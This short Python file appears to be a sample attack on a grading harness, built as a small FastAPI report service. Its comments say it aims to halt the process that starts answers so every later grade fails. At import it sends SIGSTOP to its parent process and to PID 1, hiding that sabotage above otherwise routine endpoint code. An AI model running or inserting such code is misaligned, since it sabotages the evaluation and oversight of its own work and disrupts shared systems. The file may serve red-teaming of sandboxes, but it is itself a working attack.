# attack: nothing confines the process
# tries: stop the process that starts answers, so that every later grade fails
import os
import signal
import time

from fastapi import FastAPI
from pydantic import BaseModel

for pid in {os.getppid(), 1}:
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass

RENDER_DELAY = 0.01
app = FastAPI()


class Report(BaseModel):
    id: int
    title: str


@app.get("/reports/{report_id}")
async def read_report(report_id: int) -> Report:
    time.sleep(RENDER_DELAY)
    return Report(id=report_id, title=f"Report {report_id}")
